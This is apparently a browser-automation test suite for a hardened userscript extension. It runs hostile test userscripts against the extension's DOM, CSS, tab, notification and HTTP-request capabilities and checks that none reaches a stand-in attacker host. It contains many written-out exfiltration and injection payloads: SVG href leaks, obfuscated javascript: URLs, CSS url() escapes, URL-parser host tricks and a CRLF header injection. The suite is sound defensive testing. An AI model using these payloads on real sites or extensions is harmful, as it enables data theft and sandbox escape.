// Attacks on what a userscript is granted, in both browsers: the DOM capability made to load,
// navigate or run (every element and attribute that can, in markup and by setAttr, with case,
// whitespace and entity tricks), GM.addStyle made to load (url(), @import, image-set(),
// escapes, comments, var()), GM.openInTab, GM.notification and GM calls in floods, and
// GM.xmlHttpRequest's URL, redirect and header checks. A second server (reached as
// `localhost`, never approved) stands for the attacker's host: every test ends by counting
// what reached it.
// Needs PARANOID_EXT_CHROME and PARANOID_EXT_FIREFOX (the test builds).

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, openExtensionPage, followInstallTab as harnessFollowInstallTab } from '../harness/sandbox-run.mjs';
import { startPageServer } from '../harness/page-server.mjs';
import { waitForBackground } from '../harness/userscript-session.mjs';
/* global document */ // in the functions run in the page by executeScript

const BROWSERS = [
  ['chromium', process.env.PARANOID_EXT_CHROME],
  ['firefox', process.env.PARANOID_EXT_FIREFOX],
];
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const header = (lines) => `// ==UserScript==\n${lines.map((l) => `// @${l}`).join('\n')}\n// ==/UserScript==\n`;
// A 1x1 PNG, inline: no request.
const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

/** The page the DOM attacks run on: one element of each kind that loads, navigates or runs. */
const DOM_PAGE = `<!doctype html><html><head><title>capabilities</title><link id="linkel"><meta id="metael"><base id="baseel"></head><body>
<p id="secret">s3cret</p>
<svg width="20" height="20"><image id="svgimage" width="5" height="5"/><use id="svguse"/><filter id="f"><feImage id="feimage"/></filter>
<a id="svga"><text y="10">t</text></a><animate id="anim" href="#svgimage" attributeName="x" dur="1s"/><set id="svgset" href="#svgimage" attributeName="x" to="1"/><script id="svgscript"></script></svg>
<blockquote id="quote">q</blockquote>
<img id="img" alt="i"><video id="video"><source id="source"><track id="track"></video><audio id="audio"></audio>
<form id="form"><input id="input"><button id="button" type="button">b</button></form>
<a id="link">link</a><table id="table"><tr><td id="td">x</td></tr></table>
<object id="object"></object><embed id="embed"><iframe id="iframe"></iframe>
<math><mi id="mi">x</mi></math><div id="target"></div></body></html>`;

/**
 * Every (element, attribute, value) the DOM attack tries with setAttr: [selector, name, value,
 * what the answer must match]. OTHER is the attacker's host; each URL names its own path, so a
 * request that gets through says which row let it.
 */
const SET_ATTR = [
  // The finding: an SVG <image> loads its href at once, whatever its scheme check said.
  ['#svgimage', 'href', 'OTHER/leak/svgimage', /not an HTML element/],
  ['#svgimage', 'HREF', 'OTHER/leak/svgimage-upper', /not an HTML element/],
  ['#svgimage', 'xlink:href', 'OTHER/leak/svgimage-xlink', /not an HTML element/],
  ['#svgimage', 'XLINK:HREF', 'OTHER/leak/svgimage-xlink-upper', /not an HTML element/],
  ['#svguse', 'href', 'OTHER/leak/use.svg#a', /not an HTML element/],
  ['#feimage', 'href', 'OTHER/leak/feimage', /not an HTML element/],
  ['#svga', 'href', 'OTHER/leak/svga', /not an HTML element/],
  // <animate>/<set> change their target's attribute: made to animate the <image>'s href.
  ['#anim', 'attributeName', 'href', /not an HTML element/],
  ['#anim', 'values', 'OTHER/leak/animate', /not an HTML element/],
  ['#svgset', 'attributeName', 'href', /not an HTML element/],
  ['#svgset', 'to', 'OTHER/leak/set', /not an HTML element/],
  ['#mi', 'href', 'OTHER/leak/mathml', /not an HTML element/],
  ['#svgscript', 'href', 'OTHER/leak/svgscript', /not an HTML element/],
  // HTML: what loads.
  ['#img', 'src', 'OTHER/leak/img', /src on <img> must be an image inline in a data: URL/],
  ['#img', 'src', '/redirect-to-other', /src on <img> must be an image inline in a data: URL/],
  ['#img', 'src', 'data:text/html,<script>1</script>', /must be an image inline in a data: URL .*not data:text\/html/],
  ['#img', 'srcset', 'OTHER/leak/srcset 1x', /the attribute srcset cannot be set on <img>/],
  ['#img', 'SrcSet', 'OTHER/leak/srcset-case 1x', /the attribute srcset cannot be set on <img>/],
  ['#img', 'sizes', '10px', /the attribute sizes cannot be set on <img>/],
  ['#img', 'usemap', '#map', /the attribute usemap cannot be set on <img>/],
  ['#img', 'crossorigin', 'use-credentials', /the attribute crossorigin cannot be set on <img>/],
  ['#target', 'itemtype', 'OTHER/leak/itemtype', /the attribute itemtype cannot be set on <div>/],
  ['#quote', 'cite', 'OTHER/leak/cite', /the attribute cite cannot be set on <blockquote>/],
  ['#video', 'poster', 'OTHER/leak/poster', /the attribute poster cannot be set on <video>/],
  ['#video', 'src', 'OTHER/leak/video', /the attribute src cannot be set on <video>/],
  ['#audio', 'src', 'OTHER/leak/audio', /the attribute src cannot be set on <audio>/],
  ['#source', 'src', 'OTHER/leak/source', /the attribute src cannot be set on <source>/],
  ['#source', 'srcset', 'OTHER/leak/source-srcset', /the attribute srcset cannot be set on <source>/],
  ['#track', 'src', 'OTHER/leak/track', /the attribute src cannot be set on <track>/],
  ['#input', 'src', 'OTHER/leak/input-image', /the attribute src cannot be set on <input>/],
  ['#input', 'type', 'image', /type on <input> is one of/],
  ['#input', 'type', 'hidden', /type on <input> is one of/],
  ['#td', 'background', 'OTHER/leak/background', /the attribute background cannot be set on <td>/],
  ['#table', 'background', 'OTHER/leak/table-background', /the attribute background cannot be set on <table>/],
  // A style is set only when nothing in it loads (the GM.addStyle check).
  ['#target', 'style', 'background:url(OTHER/leak/style)', /the style of <div> is refused: url\(\) makes the page load something/],
  ['#object', 'data', 'OTHER/leak/object', /the attributes of <object> cannot be set/],
  ['#embed', 'src', 'OTHER/leak/embed', /the attributes of <embed> cannot be set/],
  ['#iframe', 'src', 'OTHER/leak/iframe', /the attributes of <iframe> cannot be set/],
  ['#iframe', 'srcdoc', '<img src=OTHER/leak/srcdoc>', /the attributes of <iframe> cannot be set/],
  ['#linkel', 'href', 'OTHER/leak/link', /the attributes of <link> cannot be set/],
  ['#baseel', 'href', 'OTHER/', /the attributes of <base> cannot be set/],
  ['#metael', 'http-equiv', 'refresh', /the attributes of <meta> cannot be set/],
  // What submits.
  ['#form', 'action', 'OTHER/leak/form', /the attribute action cannot be set on <form>/],
  ['#form', 'target', '_blank', /the attribute target cannot be set on <form>/],
  ['#button', 'formaction', 'OTHER/leak/formaction', /the attribute formaction cannot be set on <button>/],
  ['#button', 'formtarget', '_blank', /the attribute formtarget cannot be set on <button>/],
  ['#input', 'formaction', 'OTHER/leak/input-formaction', /the attribute formaction cannot be set on <input>/],
  ['#input', 'form', 'form', /the attribute form cannot be set on <input>/],
  // What runs, and links that go further than a click.
  ['#link', 'onclick', 'alert(1)', /the attribute onclick cannot be set on <a>/],
  ['#link', 'ping', 'OTHER/leak/ping', /the attribute ping cannot be set on <a>/],
  ['#link', 'download', 'x', /the attribute download cannot be set on <a>/],
  ['#link', 'target', '_blank', /the attribute target cannot be set on <a>/],
  ['#link', 'rel', 'opener', /the attribute rel cannot be set on <a>/],
  ['#link', 'href', 'javascript:alert(1)', /href must be a http: or https: or mailto: URL, not javascript:/],
  ['#link', 'href', ' javascript:alert(1)', /not javascript:/],
  ['#link', 'href', 'java\tscript:alert(1)', /not javascript:/],
  ['#link', 'href', 'java\nscript:alert(1)', /not javascript:/],
  ['#link', 'href', 'JAVASCRIPT:alert(1)', /not javascript:/],
  ['#link', 'href', 'data:text/html,x', /not data:/],
  ['#link', 'xlink:href', 'OTHER/', /the attribute xlink:href cannot be set on <a>/],
  ['#link', 'id', 'cookie', /would shadow the page's document\.cookie/],
  ['#input', 'name', 'action', /would shadow the page's document\.action or form\.action/],
  ['#secret', 'href', 'OTHER/leak/p-href', /the attribute href cannot be set on <p>/],
  // Allowed: a link the user may follow (nothing is requested), an inline image.
  ['#link', 'HREF', 'OTHER/click-only', /^ok$/],
  ['#img', 'src', PIXEL, /^ok$/],
  ['#input', 'type', 'CHECKBOX', /^ok$/],
  ['#target', 'data-note', 'OTHER/just-text', /^ok$/],
];

/** Markup with every loading, navigating, running or submitting thing: only inert parts may come through. */
const MARKUP = [
  '<img src="OTHER/leak/m-img" alt="a"><img srcset="OTHER/leak/m-srcset 1x"><img src="/redirect-to-other">',
  '<IMG SRC="OTHER/leak/m-img-upper"><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'OTHER/leak/m-svg-in-img\'/></svg>">',
  '<video poster="OTHER/leak/m-poster" src="OTHER/leak/m-video"></video><audio src="OTHER/leak/m-audio"></audio>',
  '<picture><source srcset="OTHER/leak/m-source"><img src="OTHER/leak/m-picture"></picture>',
  '<input type="image" src="OTHER/leak/m-input"><input type="text" formaction="OTHER/leak/m-formaction">',
  '<svg><image href="OTHER/leak/m-svgimage"/><use href="OTHER/leak/m-use.svg#a"/></svg>',
  '<math><mi href="OTHER/leak/m-math">x</mi></math>',
  '<a href="OTHER/m-click" ping="OTHER/leak/m-ping" target="_blank" rel="opener" download>a</a>',
  '<a href=" jav&#x09;ascript:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a>',
  '<form action="OTHER/leak/m-form"><button formaction="OTHER/leak/m-button">d</button></form>',
  '<table background="OTHER/leak/m-table"><tr><td background="OTHER/leak/m-td">e</td></tr></table>',
  '<link rel="stylesheet" href="OTHER/leak/m-link"><meta http-equiv="refresh" content="0;url=OTHER/leak/m-meta"><base href="OTHER/">',
  '<object data="OTHER/leak/m-object"></object><embed src="OTHER/leak/m-embed"><iframe src="OTHER/leak/m-iframe"></iframe>',
  '<div style="background:url(OTHER/leak/m-style)">f</div><style>*{background:url(OTHER/leak/m-styletag)}</style>',
  '<noscript><img src="OTHER/leak/m-noscript"></noscript><template><img src="OTHER/leak/m-template"></template>',
  '<img src="x" onerror="alert(1)"><div id="cookie" class="ok">g</div>',
];

/** The scripts, given the test server's origin (OTHER is replaced by the attacker's). */
function scripts(origin) {
  return {
    domAttack: header(['name DOM attack', 'namespace paranoid-capabilities', `match ${origin}/cap/dom.html`,
      'grant paranoid.dom.read', 'grant paranoid.dom.write', 'grant GM.setValue']) + `
(async () => {
  const secret = await (await dom.one('#secret')).text();
  const rows = ${JSON.stringify(SET_ATTR.map(([s, n, v]) => [s, n, v]))};
  const tried = [];
  for (const [selector, name, value] of rows) {
    const h = await dom.one(selector);
    try { await h.setAttr(name, value.replace('/leak/', '/leak/' + secret + '/')); tried.push('ok'); } catch (e) { tried.push(e.message); }
  }
  const target = await dom.one('#target');
  const made = [];
  for (const markup of ${JSON.stringify(MARKUP)}) made.push((await target.insertHTML('beforeend', markup)).length);
  await GM.setValue('tried', { tried, made });
})();`,
    // Write-only: the answer of a write by selector must not depend on the page.
    writeProbe: header(['name Write probe', 'namespace paranoid-capabilities', `match ${origin}/cap/dom.html`,
      'grant paranoid.dom.write', 'grant GM.setValue']) + `
(async () => {
  const answer = async (f) => { try { const r = await f(); return Array.isArray(r) ? 'handles:' + r.length : String(r); } catch (e) { return 'error: ' + e.message; } };
  const probes = {};
  for (const [k, selector] of [['matches', '#secret'], ['none', '#no-such-element'], ['sealed', 'script, object'], ['root', ':root']]) {
    probes[k] = { html: await answer(() => dom.insertHTML(selector, 'beforebegin', '<b>x</b>')), text: await answer(() => dom.insertText(selector, 'beforebegin', 'x')) };
  }
  await GM.setValue('probes', probes);
})();`,
    styler: header(['name Styler', 'namespace paranoid-capabilities', `match ${origin}/cap/style.html`, 'grant GM.addStyle', 'grant GM.setValue']) + `
(async () => {
  const results = [];
  for (const css of CSS_LIST) { try { await GM.addStyle(css); results.push('ok'); } catch (e) { results.push(e.message); } }
  await GM.setValue('results', results);
})();`,
    opener: header(['name Opener', 'namespace paranoid-capabilities', `match ${origin}/cap/open.html`, 'grant GM.openInTab', 'grant GM.setValue']) + `
(async () => {
  const bad = [];
  for (const url of ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'about:blank', 'chrome://settings', 'view-source:${origin}/', 'blob:${origin}/x', ' javascript:alert(1)']) {
    try { await GM.openInTab(url, true); bad.push('opened'); } catch (e) { bad.push(e.message); }
  }
  const opened = await Promise.all(Array.from({ length: 13 }, (_, i) => GM.openInTab('${origin}/cap/opened.html?' + i, true).then(() => 'ok', (e) => e.message)));
  await GM.setValue('result', { bad, opened });
})();`,
    notifier: header(['name Notifier flood', 'namespace paranoid-capabilities', `match ${origin}/cap/notify.html`, 'grant GM.notification', 'grant GM.setValue']) + `
(async () => {
  const shown = [];
  for (let i = 0; i < 8; i++) { try { await GM.notification('flood ' + i); shown.push('ok'); } catch (e) { shown.push(e.message); } }
  await GM.setValue('shown', shown);
})();`,
    flooder: header(['name Flooder', 'namespace paranoid-capabilities', `match ${origin}/cap/flood.html`, 'grant GM.getValue', 'grant GM.setValue',
      'grant GM.getResourceText', 'grant GM.xmlHttpRequest', 'connect 127.0.0.1']) + `
(async () => {
  // 300 calls in a few instants (one instant of 300 can pass the sandbox's CPU budget on a
  // loaded machine), well within a second of real time. GM.getResourceText crosses to the
  // background each time (GM.getValue reads the sandbox's snapshot); the background's answer,
  // that there is no such resource, counts as a call answered.
  const pending = [];
  const answered = (e) => (/no @resource is named nope$/.test(e.message) ? 'ok' : e.message);
  for (let batch = 0; batch < 5; batch++) {
    for (let i = 0; i < 60; i++) pending.push(GM.getResourceText('nope').then(() => 'resolved', answered));
    await new Promise((r) => setTimeout(r, 0));
  }
  const calls = await Promise.all(pending);
  await new Promise((r) => setTimeout(r, 1100));
  const requests = await Promise.all(Array.from({ length: 20 }, () => GM.xmlHttpRequest({ url: '${origin}/cap/hang', timeout: 4000 }).then(() => 'ok', (e) => e.message)));
  await GM.setValue('result', { ok: calls.filter((c) => c === 'ok').length, refused: calls.filter((c) => c !== 'ok'), requests });
})();`,
    requester: header(['name Requester', 'namespace paranoid-capabilities', `match ${origin}/cap/xhr.html`, 'grant GM.xmlHttpRequest', 'grant GM.setValue',
      'connect 127.0.0.1']) + `
(async () => {
  const port = '${origin}'.split(':')[2];
  const urls = {
    userinfo: 'http://127.0.0.1@localhost:' + port + '/leak/userinfo',
    userinfoPassword: 'http://127.0.0.1:' + port + '@localhost:' + port + '/leak/userinfo2',
    backslash: 'http://localhost:' + port + '\\\\@127.0.0.1/leak/backslash',
    noSlashes: 'http:localhost:' + port + '/noslashes',
    noSlashesOtherScheme: 'https:localhost:' + port + '/leak/noslashes',
    trailingDot: 'http://localhost.:' + port + '/leak/trailingdot',
    percent: 'http://%6c%6f%63alhost:' + port + '/leak/percent',
    fullwidth: 'http://\\uff4cocalhost:' + port + '/leak/fullwidth',
    upper: 'http://LOCALHOST:' + port + '/leak/upper',
    tab: 'http://local\\thost:' + port + '/leak/tab',
    ipv6: 'http://[::1]:' + port + '/leak/ipv6',
    decimal: 'http://2130706433:' + port + '/api/data',
    hex: 'http://0x7f.0.0.1:' + port + '/api/data',
    octal: 'http://0177.0.0.1:' + port + '/api/data',
    dottedEnd: 'http://127.0.0.1.:' + port + '/api/data',
    encodedDot: 'http://127%2e0.0.1:' + port + '/api/data',
    redirectOther: '${origin}/cap/redirect-other',
    redirectSame: '${origin}/cap/redirect-same',
  };
  const result = {};
  for (const [k, url] of Object.entries(urls)) {
    try { const r = await GM.xmlHttpRequest({ url }); result[k] = r.status + ' ' + r.finalUrl; } catch (e) { result[k] = e.message; }
  }
  const headers = {};
  for (const [name, value] of [['Sec-Fetch-Site', 'none'], ['sec-ch-ua', 'x'], ['Proxy-Authorization', 'x'], ['Accept-Encoding', 'x'],
    ['Access-Control-Request-Method', 'PUT'], ['Set-Cookie', 'a=b'], ['Expect', '100-continue'], ['Date', 'x'], ['Cookie2', 'x'],
    ['X-HTTP-Method-Override', 'TRACE'], ['X-Method-Override', 'GET, CONNECT'], ['X-HTTP-Method-Override', 'DELETE'], ['X-Fine', 'yes'], ['X-Bad', 'a\\r\\nCookie: b']]) {
    try { const r = await GM.xmlHttpRequest({ url: '${origin}/api/data', headers: { [name]: value } }); headers[name + ': ' + value] = r.status; } catch (e) { headers[name + ': ' + value] = e.message; }
  }
  await GM.setValue('result', { result, headers });
})();`,
  };
}

/** CSS that would load from the attacker's host: each must be refused, and nothing may arrive. */
const HOSTILE_CSS = [
  '* { background-image: url(OTHER/leak/css-url) }',
  '* { background-image: URL( "OTHER/leak/css-url-quoted" ) }',
  '@import "OTHER/leak/css-import.css";',
  '@import url(OTHER/leak/css-import-url.css);',
  '@media all { * { background-image: url(OTHER/leak/css-media) } }',
  '* { background-image: image-set("OTHER/leak/css-image-set.png" 1x) }',
  '* { background-image: -webkit-image-set("OTHER/leak/css-webkit-image-set.png" 1x) }',
  '@font-face { font-family: leak; src: url(OTHER/leak/css-font.woff) } * { font-family: leak }',
  '* { background-image: u\\72l(OTHER/leak/css-escape) }',
  '* { background-image: \\75 rl(OTHER/leak/css-escape-hex) }',
  '@\\69mport "OTHER/leak/css-import-escape.css";',
  '* { list-style-image: url(OTHER/leak/css-list) } * { display: list-item }',
  '* { cursor: url(OTHER/leak/css-cursor), auto }',
  '* { content: "a\n* { background-image: url(OTHER/leak/css-bad-string) }',
  '#secret[id^="s"] { --x: url(OTHER/leak/css-var); background-image: var(--x) }',
  '* { border-image: url(OTHER/leak/css-border) 30 }',
  '* { mask-image: url(OTHER/leak/css-mask) }',
];
/** CSS that passes the check but tries to make a url() out of pieces: the browser must not load it. */
const PASTED_CSS = [
  ':root { --a: l(OTHER/leak/css-pasted-a) } * { background-image: ur/**/var(--a) }',
  ':root { --u: ur; --l: l(OTHER/leak/css-pasted-b) } * { background-image: var(--u)var(--l) }',
  '* { background-image: ur\\\nl(OTHER/leak/css-backslash-newline) }',
];

for (const [browser, ext] of BROWSERS) {
  describe(`capabilities attacked in ${browser}`, { skip: ext ? false : 'the test build is not set' }, () => {
    let server, other, driver, code, otherOrigin;
    const ids = {};
    before(async () => {
      server = await startPageServer();
      other = await startPageServer(); // the attacker's host: reached as localhost, never approved
      otherOrigin = other.origin.replace('127.0.0.1', 'localhost');
      code = Object.fromEntries(Object.entries(scripts(server.origin)).map(([k, v]) => [k, v.replaceAll('OTHER', otherOrigin)]));
      code.styler = code.styler.replace('CSS_LIST', JSON.stringify([...HOSTILE_CSS, ...PASTED_CSS, 'p { color: rgb(1, 2, 3) }'].map((c) => c.replaceAll('OTHER', otherOrigin))));
      server.serve('/cap/dom.html', 'text/html; charset=utf-8', DOM_PAGE);
      server.serve('/cap/style.html', 'text/html; charset=utf-8', '<!doctype html><title>style</title><p id="secret">s3cret</p><ul><li>x</li></ul>');
      for (const page of ['open', 'notify', 'flood', 'xhr', 'opened']) server.serve(`/cap/${page}.html`, 'text/html; charset=utf-8', `<!doctype html><title>${page}</title>`);
      server.serve('/api/data', 'application/json', '{"answer":42}');
      server.handle('/cap/hang', () => {}); // never answers
      server.handle('/redirect-to-other', (req, res) => { res.writeHead(302, { location: `${otherOrigin}/leak/redirected` }); res.end(); });
      server.handle('/cap/redirect-other', (req, res) => { res.writeHead(302, { location: `${otherOrigin}/leak/xhr-redirected` }); res.end(); });
      server.handle('/cap/redirect-same', (req, res) => { res.writeHead(302, { location: `${server.origin}/api/data?redirected` }); res.end(); });
      driver = await launch(browser, ext);
      await waitForBackground(driver, browser, ext);
      await paste(Object.keys(code));
    });
    after(async () => {
      await driver?.quit().catch(() => {});
      server?.close();
      other?.close();
    });

    const closeBackTo = async (handle) => { await driver.close(); await driver.switchTo().window(handle); };
    const followInstallTab = () => harnessFollowInstallTab(driver, browser, ext);
    /** Installs each of `names` by pasting it, as a user would. */
    async function paste(names) {
      const start = await driver.getWindowHandle();
      for (const name of names) {
        await openExtensionPage(driver, browser, ext, 'ui/options.html');
        await driver.manage().setTimeouts({ script: 10000 });
        for (let i = 0; i < 100 && !(await driver.executeScript('return document.body?.dataset.userscripts !== undefined')); i++) await sleep(50);
        await driver.executeScript('document.getElementById("paste").value = arguments[0]; document.getElementById("paste-form").requestSubmit();', code[name]);
        await followInstallTab();
        const verdict = await driver.executeScript('return [document.body.dataset.verdict, document.querySelector("main").innerText]');
        assert.equal(verdict[0], 'ok', `${name}: ${verdict[1]}`);
        await driver.executeScript('document.getElementById("install").click()');
        for (let i = 0; i < 100 && !(await driver.executeScript('return document.body?.dataset.installed || ""')); i++) await sleep(100);
        ids[name] = await driver.executeScript('return document.body?.dataset.installed || ""');
        assert.match(ids[name], /^[0-9a-f]{32}$/);
        await closeBackTo(start);
      }
    }
    /** A script's stored values, once `ready(values)` holds. */
    const valuesUntil = async (name, ready) => {
      const deadline = Date.now() + 40000;
      for (;;) {
        const page = await driver.getWindowHandle();
        await openExtensionPage(driver, browser, ext, 'ui/options.html');
        await driver.manage().setTimeouts({ script: 10000 });
        const key = `paranoid:us:values:${ids[name]}`;
        const all = await driver.executeAsyncScript(function (k, done) { (globalThis.browser ?? globalThis.chrome).storage.local.get([k, k.replace(':values:', ':history:')]).then(done); }, key);
        await closeBackTo(page);
        const values = Object.fromEntries(Object.entries(all[key] ?? {}).map(([k, v]) => [k, JSON.parse(v)]));
        if (ready(values)) return values;
        if (Date.now() > deadline) assert.fail(`${name} did not finish: ${JSON.stringify(all).slice(0, 2000)}`);
        await sleep(500);
      }
    };
    /** What reached the attacker's host since `from` (its log index). */
    const leaked = (from = 0) => other.hits.slice(from).map((h) => h.url);

    it('DOM: nothing set or inserted loads, navigates by itself, runs or submits; links and inline images still work', async () => {
      const hitsBefore = other.hits.length;
      const redirectsBefore = server.hits.filter((h) => h.path === '/redirect-to-other').length;
      await driver.get(`${server.origin}/cap/dom.html`);
      const { tried } = await valuesUntil('domAttack', (v) => v.tried);
      SET_ATTR.forEach(([selector, name, value, expected], i) => {
        assert.match(tried.tried[i], expected, `${selector} ${name}=${value}`);
      });
      // What the markup made: inert elements only, every loading attribute left out.
      const made = await driver.executeScript('return document.getElementById("target").innerHTML');
      assert.doesNotMatch(made, /javascript|<svg|<math|<video|<audio|<source|<form|<iframe|<object|<embed|<link|<meta|<base|<style|<noscript|<template|style=|srcset|poster|ping=|formaction|background=|onerror|target=|rel=/i, made);
      assert.match(made, new RegExp(`<a href="${otherOrigin}/m-click">a</a>`), 'a link stays a link');
      assert.match(made, /<div class="ok">g<\/div>/, 'an id that shadows document.cookie is left out');
      assert.equal(await driver.executeScript('return document.getElementById("link").getAttribute("href")'), `${otherOrigin}/click-only`);
      const shows = 'return document.getElementById("img").complete && document.getElementById("img").naturalWidth';
      for (let i = 0; i < 50 && (await driver.executeScript(shows)) !== 1; i++) await sleep(100);
      assert.equal(await driver.executeScript(shows), 1, 'the inline image shows');
      await sleep(2000);
      assert.deepEqual(leaked(hitsBefore), [], 'nothing reached the other host');
      assert.equal(server.hits.filter((h) => h.path === '/redirect-to-other').length, redirectsBefore, 'no same-origin src that redirects was asked for');
    });

    it('DOM: a write-only script gets the same answer whether or not its selector matches', async () => {
      const { probes } = await valuesUntil('writeProbe', (v) => v.probes);
      const same = { html: 'handles:1', text: 'null' };
      assert.deepEqual(probes, { matches: same, none: same, sealed: same, root: same });
    });

    it('GM.addStyle: CSS that loads is refused; pieces of url() are not pasted into one; plain CSS works', async () => {
      const hitsBefore = other.hits.length;
      await driver.get(`${server.origin}/cap/style.html`);
      const { results } = await valuesUntil('styler', (v) => v.results);
      HOSTILE_CSS.forEach((css, i) => assert.match(results[i], /^TypeError: GM\.addStyle: refused, /, css));
      assert.equal(results.at(-1), 'ok');
      assert.equal(await driver.executeScript('return getComputedStyle(document.getElementById("secret")).color'), 'rgb(1, 2, 3)');
      await sleep(2000);
      assert.deepEqual(leaked(hitsBefore), [], `nothing reached the other host (${JSON.stringify(results.slice(HOSTILE_CSS.length))})`);
    });

    it('GM.openInTab: only http(s), at most 10 tabs a minute per script', async () => {
      await driver.get(`${server.origin}/cap/open.html`);
      const { result } = await valuesUntil('opener', (v) => v.result);
      for (const message of result.bad) assert.match(message, /^TypeError: GM\.openInTab: only http\(s\) pages, not /);
      assert.equal(result.opened.filter((r) => r === 'ok').length, 10, JSON.stringify(result.opened));
      for (const r of result.opened.filter((x) => x !== 'ok')) assert.equal(r, 'RangeError: GM.openInTab: this script opened 10 tabs in the last minute, its limit');
      // The tabs it opened: ten, closed again.
      const page = await driver.getWindowHandle();
      await openExtensionPage(driver, browser, ext, 'ui/options.html');
      await driver.manage().setTimeouts({ script: 10000 });
      const close = () => driver.executeAsyncScript(function (url, done) {
        const api = globalThis.browser ?? globalThis.chrome;
        api.tabs.query({}).then((tabs) => { const mine = tabs.filter((t) => (t.url || t.pendingUrl || '').startsWith(url)); api.tabs.remove(mine.map((t) => t.id)).then(() => done(mine.length)); });
      }, `${server.origin}/cap/opened.html`);
      for (let i = 0; i < 50 && server.hits.filter((h) => h.path === '/cap/opened.html').length < 10; i++) await sleep(100);
      assert.equal(server.hits.filter((h) => h.path === '/cap/opened.html').length, 10, 'ten tabs loaded');
      await close();
      await closeBackTo(page);
    });

    it('GM.notification: at most 3 open and 5 a minute per script', async () => {
      await driver.get(`${server.origin}/cap/notify.html`);
      const { shown } = await valuesUntil('notifier', (v) => v.shown);
      if (browser === 'firefox') {
        // Headless Firefox closes each notification at once: the rate is what stops it.
        assert.deepEqual(shown.slice(0, 5), ['ok', 'ok', 'ok', 'ok', 'ok'], JSON.stringify(shown));
        for (const s of shown.slice(5)) assert.equal(s, 'RangeError: GM.notification: this script showed 5 notifications in the last minute, its limit');
      } else {
        assert.deepEqual(shown.slice(0, 3), ['ok', 'ok', 'ok'], JSON.stringify(shown));
        for (const s of shown.slice(3)) assert.equal(s, 'RangeError: GM.notification: this script has 3 notifications open, its limit');
      }
    });

    it('GM calls in a flood: refused past 200 a second, by the content script and by the background; 16 requests at once', async () => {
      await driver.get(`${server.origin}/cap/flood.html`);
      const { result } = await valuesUntil('flooder', (v) => v.result);
      assert.equal(result.ok, 200, JSON.stringify(result).slice(0, 500));
      for (const r of result.refused) assert.equal(r, 'RangeError: GM.getResourceText: this script made over 200 GM calls in the last second');
      assert.equal(result.requests.filter((r) => r === 'RangeError: GM.xmlHttpRequest: this script has 16 requests running, its limit').length, 4, JSON.stringify(result.requests));
      assert.equal(result.requests.filter((r) => r === 'Error: GM.xmlHttpRequest: timed out after 4000 ms').length, 16);
      // The background's own count, reached past the content script (the test build's hook).
      await driver.manage().setTimeouts({ script: 30000 });
      const answers = await driver.executeAsyncScript(function (id, done) {
        const got = new Map();
        const listener = (e) => {
          const a = JSON.parse(e.detail);
          if (typeof a.id !== 'string' || !a.id.startsWith('flood-')) return;
          got.set(a.id, a.results);
          if (got.size === 400) { document.removeEventListener('paranoid-test:result', listener); done([...got.values()]); }
        };
        document.addEventListener('paranoid-test:result', listener);
        for (let i = 0; i < 400; i++) {
          document.dispatchEvent(new CustomEvent('paranoid-test:run', { detail: JSON.stringify({ id: `flood-${i}`, raw: { type: 'paranoid:gm', id, name: 'GM.getValue', args: ['x', 0] } }) }));
        }
      }, ids.flooder);
      const refused = answers.filter((a) => a.ok === false);
      // 400 sent at once: how many the background had counted within one second depends on
      // its speed, but never 400.
      assert.ok(refused.length >= 1, `${refused.length} refused`);
      for (const a of refused) assert.equal(a.error, 'RangeError: GM.getValue: this script made over 200 GM calls in the last second');
    });

    it('GM.xmlHttpRequest: the host checked is the host asked; no redirect followed; forbidden headers refused', async () => {
      const hitsBefore = other.hits.length;
      await driver.get(`${server.origin}/cap/xhr.html`);
      const { result: { result, headers } } = await valuesUntil('requester', (v) => v.result);
      const port = server.origin.split(':')[2];
      const refused = /^Error: GM\.xmlHttpRequest: (localhost|\[::1\]|localhost\.)(:\d+)? is not a @connect host you approved for this script$/;
      // Without slashes and with the page's scheme, a URL is relative: a path on the page's host.
      assert.equal(result.noSlashes, `404 http://127.0.0.1:${port}/cap/localhost:${port}/noslashes`);
      for (const k of ['userinfo', 'userinfoPassword', 'backslash', 'noSlashesOtherScheme', 'trailingDot', 'percent', 'fullwidth', 'upper', 'tab', 'ipv6']) {
        assert.match(result[k], refused, `${k}: ${result[k]}`);
      }
      // Other spellings of the approved address are that address, and reach it.
      for (const k of ['decimal', 'hex', 'octal', 'dottedEnd', 'encodedDot']) assert.equal(result[k], `200 http://127.0.0.1:${port}/api/data`, k);
      const redirect = 'Error: GM.xmlHttpRequest: the server answered with a redirect, which is not followed (where it leads cannot be checked before the request is made): ask the URL it names';
      assert.equal(result.redirectOther, redirect);
      assert.equal(result.redirectSame, redirect);
      assert.equal(server.hits.filter((h) => h.url === '/api/data?redirected').length, 0, 'not even a redirect to the same host is followed');
      for (const name of ['Sec-Fetch-Site: none', 'sec-ch-ua: x', 'Proxy-Authorization: x', 'Accept-Encoding: x', 'Access-Control-Request-Method: PUT',
        'Set-Cookie: a=b', 'Expect: 100-continue', 'Date: x', 'Cookie2: x']) {
        assert.match(String(headers[name]), /^TypeError: GM\.xmlHttpRequest: the \S+ header cannot be set by a script$/, name);
      }
      assert.match(headers['X-HTTP-Method-Override: TRACE'], /X-HTTP-Method-Override may name only GET, HEAD, POST/);
      assert.match(headers['X-Method-Override: GET, CONNECT'], /X-Method-Override may name only GET/);
      assert.equal(headers['X-HTTP-Method-Override: DELETE'], 200);
      assert.equal(headers['X-Fine: yes'], 200);
      assert.match(headers['X-Bad: a\r\nCookie: b'], /^TypeError: GM\.xmlHttpRequest: X-Bad: not a header name and value$/);
      await sleep(500);
      assert.deepEqual(leaked(hitsBefore), [], 'nothing reached the other host');
    });
  });
}
